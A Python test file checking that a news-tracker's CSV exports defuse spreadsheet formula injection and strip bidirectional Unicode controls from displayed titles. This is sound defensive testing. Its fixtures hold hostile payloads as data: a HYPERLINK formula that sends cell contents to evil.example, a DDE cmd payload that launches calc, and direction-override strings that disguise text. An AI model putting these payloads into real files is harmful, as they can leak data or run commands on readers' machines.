"""tracker.present.safe_text: no CSV cell starts a formula (issue 16 item 10), no bidi control
reaches a reader (item 11); checked on the pure functions and on real exports of real
stored articles (the dashboard's Articles CSV, the chart data CSV, the CLI's csv output)."""

from __future__ import annotations

import csv
import io
import json

import pytest

from tracker.ingest import ingest_articles
from tracker.load.reader import load_articles
from tracker.present.safe_text import (
    BIDI_CONTROLS,
    FORMULA_STARTS,
    csv_cell,
    csv_safe_frame,
    display_text,
    escape_display,
)
from tracker.store import Store

BODY = "The United States praised Belarus for the release of prisoners."
HOSTILE = [
    ('=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "=1+1"),
    ("+SUM(1,2)", "+outlet", "+http://x"),
    ("-2+3+cmd|' /C calc'!A0", "-outlet", "-1"),
    ("@SUM(A1:A9)", "@outlet", "@url"),
    ("Belarus praises \u202eASU\u202c and \u2066more\u2069", "\u200fWire", "https://ok.example/"),
]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_csv_cell_never_starts_a_formula(start):
    value = start + "SUM(A1)"
    assert csv_cell(value) == "'" + value
    assert csv_cell("Sanctions = pressure") == "Sanctions = pressure"
    assert csv_cell(-3.5) == -3.5 and csv_cell(None) is None  # numbers stay numbers


@pytest.mark.parametrize("control", list(BIDI_CONTROLS))
def test_display_text_removes_every_bidi_control(control):
    assert display_text(f"USA{control} praises BLR") == "USA praises BLR"
    assert control not in escape_display(f"<b>{control}x</b>")
    assert escape_display(f"<b>{control}x</b>") == "&lt;b&gt;x&lt;/b&gt;"


def test_display_text_of_missing_values():
    assert display_text(None) == "" and display_text(float("nan")) == ""
    assert display_text("Café — Minsk") == "Café — Minsk"


@pytest.fixture
def hostile_db(tmp_path):
    records = [
        {"title": t, "source": s, "url": u, "date": "2025-08-15", "text": f"{BODY} Item {n}."}
        for n, (t, s, u) in enumerate(HOSTILE)
    ]
    data = "\n".join(json.dumps(r) for r in records).encode()
    db = str(tmp_path / "t.duckdb")
    report = ingest_articles(load_articles("hostile.jsonl", data), db, workers=1)
    assert len(report.added) == len(HOSTILE) and not report.failed
    return db


def _cells(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"))))


def test_dashboard_articles_csv_has_no_formula_and_no_bidi(hostile_db):
    """The dashboard's Articles CSV: the frame it exports, through the bytes it downloads."""
    from tracker.present.export import table_bytes
    from tracker.present.tables import articles_table

    with Store(hostile_db, read_only=True) as store:
        frame = articles_table(store.dashboard_articles([("BLR", "USA")]), for_csv=True)
    assert len(frame) == len(HOSTILE)
    rows = _cells(table_bytes(frame, "csv"))
    for row in rows:
        for column in ("Title", "Outlet", "URL"):
            cell = row[column]
            assert not cell.startswith(FORMULA_STARTS), (column, cell)
            assert not set(cell) & set(BIDI_CONTROLS), (column, cell)
    titles = {row["Title"] for row in rows}
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in titles
    assert "'@SUM(A1:A9)" in titles
    assert "Belarus praises ASU and more" in titles
    assert {row["Tone"] for row in rows} and all(float(row["Tone"]) > -1 for row in rows)


def test_frame_csv_keeps_numbers_and_stored_data_unchanged(hostile_db):
    with Store(hostile_db, read_only=True) as store:
        frame = store.dashboard_articles([("BLR", "USA")])
        stored = {r[0] for r in store.con.execute("SELECT title FROM articles").fetchall()}
    safe = csv_safe_frame(frame)
    assert safe["tone"].equals(frame["tone"])  # numbers untouched
    assert "=1+1" not in set(safe["url"]) and "'=1+1" in set(safe["url"])
    assert HOSTILE[0][0] in stored  # the store keeps the text as written


def test_cli_csv_output_is_neutralised(tmp_path):
    import pandas as pd

    from tracker.cli.common import echo_frame

    frame = pd.DataFrame({"title": ["=1+1", "ok", "\u202eevil"], "n": [-1, 2, 3]})
    import click
    from click.testing import CliRunner

    @click.command()
    def show():
        echo_frame(frame, "csv")

    out = CliRunner().invoke(show).stdout
    rows = _cells(out.encode())
    assert [r["title"] for r in rows] == ["'=1+1", "ok", "evil"]
    assert [r["n"] for r in rows] == ["-1", "2", "3"]


def test_chart_hover_and_drilldown_show_no_bidi_control():
    import pandas as pd

    from tracker.present.labels import escape
    from tracker.ui.safe_text import safe_inline

    title = "Belarus praises \u202eASU"
    assert "\u202e" not in escape(title)
    assert "&#8238;" not in safe_inline(title) and "\u202e" not in safe_inline(title)
    framed = pd.DataFrame({"title": [title]})
    from tracker.present.safe_text import display_frame

    assert display_frame(framed)["title"].iloc[0] == "Belarus praises ASU"
